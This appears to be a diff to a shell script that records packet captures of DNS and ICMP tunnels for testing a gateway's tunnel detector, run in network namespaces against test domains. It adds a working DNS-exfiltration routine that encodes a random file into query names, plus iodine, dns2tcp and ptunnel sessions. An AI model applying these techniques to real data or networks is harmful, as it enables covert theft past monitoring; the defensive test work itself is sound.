@@ -12,6 +12,7 @@
 # Needs root and, from Debian 12: openvpn wireguard-tools wireguard-go
 # strongswan-charon strongswan-swanctl libcharon-extra-plugins tor
 # microsocks tinyproxy iodine ptunnel-ng ptunnel dnsmasq-base dnsutils curl
+# unbound dns2tcp (the DNS spread recordings; unbound's service need not run)
 # openssl tcpdump tshark (editcap, capinfos) python3 iproute2 iputils-ping;
 # for the remote-access recordings also xrdp freerdp2-x11 xvfb xauth
 # tigervnc-standalone-server tigervnc-viewer x11vnc (only for -storepasswd)
@@ -670,7 +671,7 @@ icmp_tunnel_session() {
     # use").
     sleep 2
     ns_c curl -sS --max-time 30 -o /dev/null http://127.0.0.1:8000/index.html
-    capture_save "$name" 400
+    capture_save "$name" "${ICMP_MAX:-400}"
     net_down
 }
 
@@ -1806,5 +1807,247 @@ rec_wireguard_variants() {
 }
 
 ALL+=(wireguard_variants)
+
+# === issue 12, class 3: DNS tunnels spread over many flows ================
+#
+# A stub resolver runs in gw-cli on 127.0.0.1:53 (dnsmasq forwarding the
+# tunnel zone, or unbound with the zone as a stub zone, i.e. iterative
+# queries to the zone's authoritative server) and the tunnel or exfiltration
+# client asks it; the capture on gw-c holds only the resolver's upstream
+# queries, each from a fresh random source port: one query per flow, as a
+# gateway between a company resolver and the internet sees a tunnel. The
+# `*-direct` exfiltration captures have no resolver (each dig is a new
+# process and port, as between clients and their resolver).
+# The server side is the tunnel server (iodined, dns2tcpd) or, for the
+# exfiltration and benign captures, an authoritative dnsmasq.
+
+# resolver_up KIND(dnsmasq|unbound) ZONE...: stub resolver in gw-cli.
+resolver_up() {
+    local kind=$1 z
+    shift
+    case $kind in
+        dnsmasq)
+            local args=()
+            for z in "$@"; do args+=("--server=/$z/$SRV"); done
+            bg "$NS_C" resolver dnsmasq -k -C /dev/null --no-resolv --no-hosts --cache-size=0 \
+                --listen-address=127.0.0.1 --bind-interfaces --user=root "${args[@]}"
+            ;;
+        unbound)
+            local conf="$WORK/unbound-$SESSION.conf"
+            {
+                printf 'server:\n  interface: 127.0.0.1\n  port: 53\n  do-daemonize: no\n'
+                printf '  username: ""\n  chroot: ""\n  pidfile: ""\n  use-syslog: no\n  logfile: ""\n'
+                printf '  directory: "%s"\n  do-ip6: no\n  access-control: 127.0.0.0/8 allow\n' "$WORK"
+                printf '  module-config: "iterator"\n  qname-minimisation: no\n  msg-cache-size: 0\n  rrset-cache-size: 0\n'
+                printf '  local-zone: "test." nodefault\n  local-zone: "100.51.198.in-addr.arpa." nodefault\n'
+                for z in "$@"; do
+                    printf '  domain-insecure: "%s"\nstub-zone:\n  name: "%s"\n  stub-addr: %s\nserver:\n' "$z" "$z" "$SRV"
+                done
+            } >"$conf"
+            bg "$NS_C" resolver unbound -d -c "$conf"
+            ;;
+    esac
+    wait_port "$NS_C" 53 10 -u
+}
+
+# iodine_session NAME RESOLVER IODINE-ARGS...: iodined in gw-srv for
+# t.gateward.test, iodine -r (no raw UDP) through the resolver, ping and a
+# download through the tunnel; keeps the first 400 packets.
+iodine_session() {
+    local name=$1 resolver=$2 pw
+    shift 2
+    pw=$(openssl rand -hex 8)
+    net_up
+    bg "$NS_S" iodined iodined -f -c -P "$pw" -l "$SRV" -p 53 10.77.0.1/27 t.gateward.test
+    wait_port "$NS_S" 53 10 -u
+    start_http "$NS_S"
+    resolver_up "$resolver" t.gateward.test
+    capture_start
+    bg "$NS_C" iodine iodine -f -r -P "$pw" "$@" 127.0.0.1 t.gateward.test
+    wait_log "$LOG/iodine.log" 'Connection setup complete' 90
+    ns_c ping -q -c 3 -i 0.5 -s 200 10.77.0.1 >/dev/null || true
+    ns_c curl -sS --max-time 30 -o /dev/null http://10.77.0.1:8080/index.html || true
+    capture_save "$name" 400
+    net_down
+}
+
+rec_iodine_spread() {
+    local t
+    for t in NULL TXT CNAME MX SRV PRIVATE A; do
+        iodine_session "iodine-spread-${t,,}" dnsmasq -T "$t"
+    done
+    iodine_session iodine-spread-txt-base32 unbound -T TXT -O base32
+    iodine_session iodine-spread-txt-base64 dnsmasq -T TXT -O base64
+    iodine_session iodine-spread-cname-base64u unbound -T CNAME -O base64u
+    iodine_session iodine-spread-mx-base128 dnsmasq -T MX -O base128
+    iodine_session iodine-spread-txt-raw unbound -T TXT -O raw
+    iodine_session iodine-spread-null-short unbound -T NULL -M 100
+    # The handshake alone: a wrong password, so iodine stops after its
+    # version and login probes.
+    local pw
+    pw=$(openssl rand -hex 8)
+    net_up
+    bg "$NS_S" iodined iodined -f -c -P "$pw" -l "$SRV" -p 53 10.77.0.1/27 t.gateward.test
+    wait_port "$NS_S" 53 10 -u
+    resolver_up dnsmasq t.gateward.test
+    capture_start
+    ns_c timeout 20 iodine -f -r -P wrong-password 127.0.0.1 t.gateward.test >>"$LOG/iodine.log" 2>&1 || true
+    capture_save iodine-spread-handshake 100
+    net_down
+}
+
+# dns2tcp_session NAME RESOLVER TYPE: dns2tcpd for d.gateward.test with
+# resource web -> the HTTP server; dns2tcpc through the resolver.
+dns2tcp_session() {
+    local name=$1 resolver=$2 type=$3 conf="$WORK/dns2tcpd-$SESSION.conf"
+    net_up
+    start_http "$NS_S"
+    mkdir -p "$WORK/d2t-root"
+    printf 'listen = %s\nport = 53\nuser = nobody\nchroot = %s\ndomain = d.gateward.test\nresources = web:127.0.0.1:8080\n' \
+        "$SRV" "$WORK/d2t-root" >"$conf"
+    bg "$NS_S" dns2tcpd dns2tcpd -F -d 1 -f "$conf"
+    wait_port "$NS_S" 53 10 -u
+    resolver_up "$resolver" d.gateward.test
+    capture_start
+    bg "$NS_C" dns2tcpc dns2tcpc -z d.gateward.test -r web -l 8000 -T "$type" 127.0.0.1
+    wait_port "$NS_C" 8000 20
+    ns_c curl -sS --max-time 40 -o /dev/null http://127.0.0.1:8000/index.html || true
+    sleep 1
+    capture_save "$name" 400
+    net_down
+}
+
+rec_dns2tcp_spread() {
+    dns2tcp_session dns2tcp-spread-txt dnsmasq TXT
+    dns2tcp_session dns2tcp-spread-key unbound KEY
+}
+
+# Authoritative dnsmasq in gw-srv answering every name below
+# x.gateward.test with an A record, and NXDOMAIN below n.gateward.test.
+exfil_server() {
+    bg "$NS_S" authdns dnsmasq -k -C /dev/null --no-resolv --no-hosts --listen-address="$SRV" \
+        --bind-interfaces --user=root --address=/x.gateward.test/192.0.2.7 --address=/n.gateward.test/
+    wait_port "$NS_S" 53 10 -u
+}
+
+# exfil_session NAME RESOLVER(dnsmasq|unbound|direct) ENCODING(base32|hex|base64url)
+# LABEL-LEN ZONE QTYPE TOOL(dig|host): sends a 3 KiB file as DNS names
+# <seq>.<chunk labels>.<zone>, one lookup per process.
+exfil_session() {
+    local name=$1 resolver=$2 enc=$3 len=$4 zone=$5 qtype=$6 tool=$7 dns=127.0.0.1 i=0 chunk data
+    net_up
+    exfil_server
+    if [ "$resolver" = direct ]; then dns=$SRV; else resolver_up "$resolver" "$zone"; fi
+    head -c 3072 /dev/urandom >"$WORK/secret.bin"
+    case $enc in
+        base32) data=$(base32 -w0 "$WORK/secret.bin" | tr -d '=' | tr 'A-Z' 'a-z') ;;
+        hex) data=$(od -An -v -tx1 "$WORK/secret.bin" | tr -d ' \n') ;;
+        base64url) data=$(basenc --base64url -w0 "$WORK/secret.bin" | tr -d '=') ;;
+    esac
+    capture_start
+    while [ -n "$data" ] && [ "$i" -lt 150 ]; do
+        chunk=${data:0:$len}
+        data=${data:$len}
+        # Two labels of up to 63 bytes each.
+        local q="${chunk:0:63}"
+        [ ${#chunk} -gt 63 ] && q="$q.${chunk:63}"
+        case $tool in
+            dig) ns_c dig +tries=1 +time=1 @"$dns" "$i.$q.$zone" "$qtype" >/dev/null || true ;;
+            host) ns_c host -W 1 -t "$qtype" "$i.$q.$zone" "$dns" >/dev/null || true ;;
+        esac
+        i=$((i + 1))
+    done
+    capture_save "$name" 400
+    net_down
+}
+
+rec_dns_exfil() {
+    exfil_session exfil-base32-dnsmasq dnsmasq base32 60 x.gateward.test A dig
+    exfil_session exfil-hex-unbound-txt unbound hex 60 x.gateward.test TXT dig
+    exfil_session exfil-base32-direct direct base32 100 x.gateward.test A dig
+    exfil_session exfil-hex-nxdomain-host dnsmasq hex 40 n.gateward.test A host
+    exfil_session exfil-base64url-unbound unbound base64url 50 x.gateward.test AAAA dig
+    exfil_session exfil-hex-short-direct direct hex 20 n.gateward.test TXT host
+}
+
+# Benign DNS through the same resolvers: many ordinary names of many
+# domains, CDN names with long hashed labels, DNSSEC (DNSKEY/DS with +dnssec),
+# SPF/DKIM/DMARC TXT look-ups, SRV, MX, and a PTR sweep of a /24, answered by
+# an authoritative dnsmasq for every zone (NXDOMAIN or NODATA where it has no
+# record, as real servers answer most such look-ups).
+benign_names() {
+    python3 - <<'EOF'
+import hashlib
+h = lambda s, n: hashlib.sha256(s.encode()).hexdigest()[:n]
+out = []
+for d in ["example.com", "example.org", "shop.example", "news.example", "bank.example",
+          "mail.example", "video.example", "social.example", "maps.example", "cloud.example"]:
+    for sub in ["www", "api", "static", "img", "login", "cdn", "m", "mail", "accounts", "assets"]:
+        out.append((f"{sub}.{d}", "A"))
+        out.append((f"{sub}.{d}", "AAAA"))
+    out.append((d, "MX")); out.append((d, "TXT")); out.append((f"_dmarc.{d}", "TXT"))
+    for sel in ["google", "selector1", "selector2", "s1", "k1"]:
+        out.append((f"{sel}._domainkey.{d}", "TXT"))
+    out.append((f"_spf.{d}", "TXT")); out.append((d, "DNSKEY")); out.append((d, "DS"))
+    out.append((f"_sip._tls.{d}", "SRV")); out.append((f"_xmpp-client._tcp.{d}", "SRV"))
+for i in range(40):
+    out.append((f"e{1000+i*37}.dscb.akamaiedge.example", "A"))
+    out.append((f"d{h('cf%d'%i,13)}.cloudfront.example", "A"))
+    out.append((f"r{i%8}---sn-{h('gv%d'%i,8)}.googlevideo.example", "A"))
+    out.append((f"{h('sf%d'%i,32)}.safeframe.googlesyndication.example", "A"))
+    out.append((f"ec2-203-0-113-{i}.compute-1.amazonaws.example", "A"))
+    out.append((f"internal-web-lb-{h('lb%d'%i,10)}.us-east-1.elb.amazonaws.example", "A"))
+    out.append((f"{h('u%d'%i,8)}-{h('v%d'%i,4)}-{h('w%d'%i,4)}-{h('x%d'%i,4)}-{h('y%d'%i,12)}.telemetry.example", "A"))
+    out.append((f"_acme-challenge.host{i}.example.net", "TXT"))
+for i in range(1, 129):
+    out.append((f"{i}.100.51.198.in-addr.arpa", "PTR"))
+import random
+random.Random(12).shuffle(out)
+for n, t in out:
+    print(n, t)
+EOF
+}
+
+# benign_session NAME RESOLVER(dnsmasq|unbound|direct) FIRST COUNT
+benign_session() {
+    local name=$1 resolver=$2 first=$3 count=$4 dns=127.0.0.1 n t
+    net_up
+    bg "$NS_S" authdns dnsmasq -k -C /dev/null --no-resolv --no-hosts --listen-address="$SRV" \
+        --bind-interfaces --user=root --address=/example.com/192.0.2.10 --address=/example.org/192.0.2.11 \
+        --address=/example/192.0.2.12 --address=/example.net/192.0.2.13 \
+        --ptr-record=5.100.51.198.in-addr.arpa,host5.example.net \
+        --txt-record=example.com,"v=spf1 include:_spf.example.com ~all" \
+        --txt-record=google._domainkey.example.com,"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"
+    wait_port "$NS_S" 53 10 -u
+    if [ "$resolver" = direct ]; then dns=$SRV; else resolver_up "$resolver" example.com example.org example example.net 51.198.in-addr.arpa; fi
+    benign_names >"$WORK/benign-names.txt"
+    capture_start
+    sed -n "${first},$((first + count - 1))p" "$WORK/benign-names.txt" | while read -r n t; do
+        ns_c dig +tries=1 +time=1 +dnssec @"$dns" "$n" "$t" >/dev/null || true
+    done
+    capture_save "$name" 0
+    net_down
+}
+
+rec_dns_benign() {
+    benign_session dns-benign-dnsmasq dnsmasq 1 260
+    benign_session dns-benign-unbound unbound 261 260
+    benign_session dns-benign-direct direct 521 260
+}
+
+# ICMP tunnels of few packets (issue 12, class 5): ptunnel-ng with a magic
+# of its own (-m) and the original ptunnel with a password (-x), cut to
+# their first packets, as a sensor that saw only the start of a session
+# (or a tunnel used for a few exchanges) holds them.
+rec_icmp_few() {
+    ICMP_MAX=6 icmp_tunnel_session ptunnel-ng-magic-few \
+        ptunnel-ng -m 0x5eed1e55 -r127.0.0.1 -R8080 -v 4 -o"$WORK/ptunnel-ng-srv.log" -- \
+        ptunnel-ng -m 0x5eed1e55 -p"$SRV" -l8000 -r127.0.0.1 -R8080 -v 4 -o"$WORK/ptunnel-ng-cli.log"
+    ICMP_MAX=4 icmp_tunnel_session ptunnel-pw-few \
+        ptunnel -x gateward-test -da 127.0.0.1 -dp 8080 -v 4 -- \
+        ptunnel -x gateward-test -p "$SRV" -lp 8000 -da 127.0.0.1 -dp 8080 -v 4
+}
+
+ALL+=(iodine_spread dns2tcp_spread dns_exfil dns_benign icmp_few)
 
 main "$@"
